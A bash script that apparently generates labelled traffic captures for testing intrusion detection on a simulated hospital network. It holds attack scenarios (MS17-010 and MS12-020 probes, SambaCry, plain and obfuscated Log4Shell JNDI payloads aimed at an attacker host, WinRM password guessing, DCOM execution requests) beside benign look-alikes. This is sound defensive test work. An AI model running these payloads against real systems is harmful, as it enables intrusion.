#!/bin/bash
# Looking for holes and using them, and remote control of hosts by what is not Windows' file sharing.
# shellcheck source=lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
# shellcheck source=services.sh
source "$RECORD_DIR/services.sh"
# shellcheck source=domain.sh
source "$RECORD_DIR/domain.sh"

ATTACKER=10.20.1.66
ADMIN=10.20.1.30
SERVER=10.20.2.41

old_server() {
    hospital clients servers
    host server servers $SERVER
    host attacker clients $ATTACKER
    host admin clients $ADMIN
    WINDOWS_MORE="ntlm auth = ntlmv1-permitted" WINDOWS_OLDEST=NT1 windows_on server SRV-OLD $SERVER
}

record_exploit_ms17_check() {
    begin exploit-ms17-check attack "nmap asks a server that speaks SMB 1 whether it lacks the patch against EternalBlue and whether DoublePulsar is there (smb-vuln-ms17-010, smb-double-pulsar-backdoor). Samba is not vulnerable."
    programs nmap
    old_server
    capture clients
    run attacker nmap -n -Pn -p 445 --script smb-vuln-ms17-010,smb-double-pulsar-backdoor $SERVER
    expect "{technique: T1210, actor: $ATTACKER, what: probe for MS17-010, target: $SERVER}"
    contains "smb.cmd == 0x25 || smb.cmd == 0x32" -ge 1
    finish
}

record_exploit_ms08_check() {
    begin exploit-ms08-check attack "A server is asked to compare and shorten paths that climb above their root, by which one learns whether it lacks the patch MS08-067 (MS-SRVS 32 and 31). Samba answers that it knows no such calls."
    old_server
    programs python3-impacket
    capture clients
    run attacker $PYTHON "$RECORD_DIR/calls.py" path-check $SERVER nobody "$LOCAL_PASSWORD"
    expect "{technique: T1210, actor: $ATTACKER, what: probe for MS08-067, target: $SERVER}"
    contains "dcerpc.opnum == 32 || dcerpc.opnum == 31" -ge 2
    finish
}

record_exploit_sambacry() {
    begin exploit-sambacry attack "A library is written to a share and its path opened as a named pipe, so that an old Samba would load it (CVE-2017-7494, Impacket's sambaPipe). This Samba refuses."
    old_server
    impacket sambaPipe
    make_bytes "$WORK/ward.so" 4000
    printf '\x7fELF\x02\x01\x01\0' | dd of="$WORK/ward.so" conv=notrunc status=none
    capture clients
    LIMIT=30 run attacker $PYTHON "$IMPACKET" -so "$WORK/ward.so" "WARD/administrator:$LOCAL_PASSWORD@$SERVER"
    expect "{technique: T1210, actor: $ATTACKER, what: library of a share opened as a pipe, target: $SERVER}"
    contains 'smb2.filename contains ".so" || smb.file contains ".so"' -ge 1
    finish
}

record_benign_old_machine() {
    begin benign-old-machine benign "An analyser that speaks only SMB 1 logs on, lists the shares, writes two results and reads a list of orders, and opens a pipe to ask for the server's name."
    old_server
    echo 'order 1' >"$WORK/smb-server/share/orders.txt"
    make_bytes "$WORK/result.txt" 2000
    capture clients
    run admin smbclient -m NT1 --option='client min protocol=NT1' -U "nobody%$LOCAL_PASSWORD" -L $SERVER
    run admin smbclient -m NT1 --option='client min protocol=NT1' -U "nobody%$LOCAL_PASSWORD" "//$SERVER/ward" -c "put $WORK/result.txt a.txt; put $WORK/result.txt b.txt; get orders.txt $WORK/o; ls"
    run admin rpcclient --option='client min protocol=NT1' --option='client ipc max protocol=NT1' --option='client ipc min protocol=NT1' -U "nobody%$LOCAL_PASSWORD" $SERVER -c srvinfo
    near_miss lateral.smb1_weakness_checked lateral.smb1_implant_asked lateral.pipe_by_path
    contains "smb.cmd == 0x25" -ge 2
    finish
}

# web NAME: a server of pages that logs what it is asked for, as applications do.
web() {
    host web servers 10.20.2.80
    nginx_on web 10.20.2.80
    programs curl
}

record_exploit_log4shell() {
    begin exploit-log4shell attack "A web server is sent names of directory objects on the attacker's host where applications log what they get: in the user agent, in a header and in the address, plain and disguised (Log4Shell)."
    hospital clients servers
    host attacker clients $ATTACKER
    web
    capture clients
    run attacker curl -s -A "\${jndi:ldap://$ATTACKER:1389/a}" http://10.20.2.80/
    run attacker curl -s -H "X-Api-Version: \${\${lower:j}ndi:\${lower:l}dap://$ATTACKER:1389/b}" http://10.20.2.80/page1.html
    run attacker curl -s -g "http://10.20.2.80/?q=\$%7Bjndi:rmi://$ATTACKER/c%7D"
    expect "{technique: T1190, actor: $ATTACKER, what: name of a directory object sent to be logged, target: 10.20.2.80}"
    contains "http.request" -eq 3
    finish
}

record_benign_web_templates() {
    begin benign-web-templates benign "A program calls a web server with braces and dollars in its address and headers, as templates that nobody filled in leave them."
    hospital clients servers
    host admin clients $ADMIN
    web
    capture clients
    run admin curl -s -A 'ward-agent/${project.version}' http://10.20.2.80/
    run admin curl -s -g 'http://10.20.2.80/page1.html?name=${user.name}&sort=${column}'
    run admin curl -s -g 'http://10.20.2.80/page2.html?filter=%24%7Benv:WARD%7D'
    near_miss lateral.code_fetched_by_log
    contains "http.request" -eq 3
    finish
}

record_lateral_winrm() {
    begin lateral-winrm attack "pywinrm runs three commands on a server by Windows Remote Management. Windows is not at hand: a script of ours answers as MS-WSMV says."
    programs python3-winrm
    hospital clients servers
    host attacker clients $ATTACKER
    host server servers $SERVER
    service server "$PYTHON" "$RECORD_DIR/wsman.py" serve $SERVER
    answering server $SERVER 5985
    capture clients
    run attacker $PYTHON "$RECORD_DIR/wsman.py" run $SERVER administrator "$LOCAL_PASSWORD" whoami "net user" "net localgroup administrators"
    expect "{technique: T1021.006, actor: $ATTACKER, what: remote shell by WinRM, target: $SERVER}"
    contains 'http.request.uri == "/wsman"' -ge 6
    finish
}

record_lateral_winrm_refused() {
    begin lateral-winrm-refused attack "pywinrm tries fourteen passwords of an administrator on a server's Windows Remote Management, in vain (a script of ours answers)."
    programs python3-winrm
    hospital clients servers
    host attacker clients $ATTACKER
    host server servers $SERVER
    service server "$PYTHON" "$RECORD_DIR/wsman.py" serve $SERVER
    answering server $SERVER 5985
    capture clients
    shell attacker "for i in {1..14}; do $PYTHON $RECORD_DIR/wsman.py run $SERVER administrator ward-guess-\$i whoami; done"
    expect "{technique: T1021.006, actor: $ATTACKER, what: WinRM tried, target: $SERVER}"
    expect "{technique: T1110.001, actor: $ATTACKER, kind: password guessing, target: $SERVER}"
    contains "http.response.code == 401" -ge 14
    finish
}

record_benign_wsman_identify() {
    begin benign-wsman-identify benign "A monitoring server asks three times who a server's management service is (WS-Management Identify, without logging on)."
    programs curl
    hospital clients servers
    host admin clients $ADMIN
    host server servers $SERVER
    service server "$PYTHON" "$RECORD_DIR/wsman.py" serve $SERVER
    answering server $SERVER 5985
    printf '%s' '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:wsmid="http://schemas.dmtf.org/wbem/wsman/identity/1/wsmanidentity.xsd"><s:Header/><s:Body><wsmid:Identify/></s:Body></s:Envelope>' >"$WORK/identify.xml"
    capture clients
    local i
    for i in 1 2 3; do
        must admin curl -s -A ward-monitor/2 -H "Content-Type: application/soap+xml;charset=UTF-8" --data-binary "@$WORK/identify.xml" http://$SERVER:5985/wsman
        sleep 1
    done
    near_miss lateral.winrm_shell
    contains "http.request" -eq 3
    finish
}

# dcom_server: a script that answers on port 135 as MS-DCOM says.
dcom_server() {
    programs python3-impacket
    hospital clients servers
    host attacker clients $ATTACKER
    host admin clients $ADMIN
    host server servers $SERVER
    service server "$PYTHON" "$RECORD_DIR/dcom.py" serve $SERVER
    answering server $SERVER 135
}

record_lateral_wmi() {
    begin lateral-wmi attack "A server is asked over DCOM for the class by which WMI runs programs, as wmiexec does, with calls that are signed and not sealed. Windows is not at hand: a script of ours answers and refuses."
    dcom_server
    capture clients
    run attacker $PYTHON "$RECORD_DIR/dcom.py" ask $SERVER administrator "$LOCAL_PASSWORD" 8BC3F05E-D86B-11D0-A075-00C04FB68820
    expect "{technique: T1047, actor: $ATTACKER, what: WMI asked for from afar, target: $SERVER}"
    contains "dcerpc.opnum == 4" -ge 1
    finish
}

record_lateral_dcom() {
    begin lateral-dcom attack "A server is asked over DCOM for the classes that dcomexec runs programs with: MMC20.Application, ShellWindows and ShellBrowserWindow. A script of ours answers and refuses."
    dcom_server
    capture clients
    run attacker $PYTHON "$RECORD_DIR/dcom.py" ask $SERVER administrator "$LOCAL_PASSWORD" 49B2791A-B1AE-4C90-9B8E-E860BA07F889 \
        9BA05972-F6A8-11CF-A442-00A0C90A8F39 C08AFD90-F2A1-11D1-8455-00A0C91F3880
    expect "{technique: T1021.003, actor: $ATTACKER, what: classes asked for that run programs, target: $SERVER}"
    contains "dcerpc.opnum == 4" -ge 3
    finish
}

record_benign_dcom_opc() {
    begin benign-dcom-opc benign "A workstation of building control asks a server over DCOM for the list of its OPC servers, as it does when it starts, and is refused. A script of ours answers."
    dcom_server
    capture clients
    run admin $PYTHON "$RECORD_DIR/dcom.py" ask $SERVER operator "$LOCAL_PASSWORD" 13486D51-4821-11D2-A494-3CB306C10000
    near_miss lateral.dcom_shell_class lateral.wmi_logon
    contains "dcerpc.opnum == 4" -ge 1
    finish
}

record_disc_snmp_walk() {
    begin disc-snmp-walk attack "A workstation reads all that a server's SNMP agent tells, object by object: interfaces, addresses, connections, and how the agent is set up (nmap's snmp scripts, snmpwalk)."
    programs nmap snmp snmpd
    hospital clients servers
    host attacker clients $ATTACKER
    host server servers $SERVER
    printf 'view ward included .1.3.6.1.2.1\nview ward included .1.3.6.1.6\nview ward excluded .1.3.6.1.2.1.25\nrocommunity public default -V ward\nsysName server\nsysLocation ward 3\n' >"$WORK/snmpd.conf"
    service server snmpd -f -Lo -C -c "$WORK/snmpd.conf" -p "$WORK/snmpd.pid" udp:$SERVER:161
    sleep 2
    capture clients
    run attacker nmap -n -Pn -sU -p 161 --script snmp-sysdescr $SERVER
    run attacker snmpwalk -v2c -c public $SERVER .1.3.6.1
    expect "{technique: T1602.001, actor: $ATTACKER, what: whole management tree read, target: $SERVER}"
    contains "snmp" -ge 1000
    finish
}

record_disc_nmap_rdp() {
    begin disc-nmap-rdp attack "nmap asks a terminal server what encryption it knows and whether it lacks the patch MS12-020 (rdp-enum-encryption, rdp-vuln-ms12-020)."
    programs nmap xrdp
    hospital clients servers
    host attacker clients $ATTACKER
    host server servers $SERVER
    openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=ward.hospital.example -keyout "$WORK/key.pem" -out "$WORK/cert.pem" 2>/dev/null
    sed -e "s#^port=.*#port=tcp://$SERVER:3389#" -e 's/^security_layer=.*/security_layer=negotiate/' -e "s#^certificate=.*#certificate=$WORK/cert.pem#" -e "s#^key_file=.*#key_file=$WORK/key.pem#" \
        -e "s#^LogFile=.*#LogFile=$WORK/xrdp.log#" -e 's/^EnableSyslog=.*/EnableSyslog=false/' /etc/xrdp/xrdp.ini >"$WORK/xrdp.ini"
    service server unshare -m sh -c "mkdir -p $WORK/run && mount --bind $WORK/run /run && exec xrdp --nodaemon -c $WORK/xrdp.ini"
    answering server $SERVER 3389
    capture clients
    LIMIT=60 run attacker nmap -n -Pn -p 3389 --script rdp-enum-encryption,rdp-vuln-ms12-020 $SERVER
    expect "{technique: T1046, actor: $ATTACKER, what: terminal server probed, target: $SERVER}"
    contains "tcp.flags == 0x002 && tcp.dstport == 3389" -ge 5
    finish
}

record_remote_support() {
    begin remote-support attack "A workstation opens remote support programs nobody has heard of: relays of AnyDesk and TeamViewer outside by TLS and a VNC server of another workstation. The relays are a web server of ours that has their names."
    programs openssl curl tigervnc-standalone-server nginx-light
    hospital clients outside
    host attacker clients $ATTACKER
    host relay outside 203.0.113.40
    nginx_on relay 203.0.113.40
    capture clients
    local name
    for name in relay-3f2a9c41.net.anydesk.com boot.net.anydesk.com router7.teamviewer.com; do
        run attacker curl -sk -m 5 -o /dev/null --resolve $name:443:203.0.113.40 https://$name/
    done
    expect "{technique: T1219, actor: $ATTACKER, what: relays of remote support programs}"
    contains "tls.handshake.type == 1" -eq 3
    finish
}

main "$@"
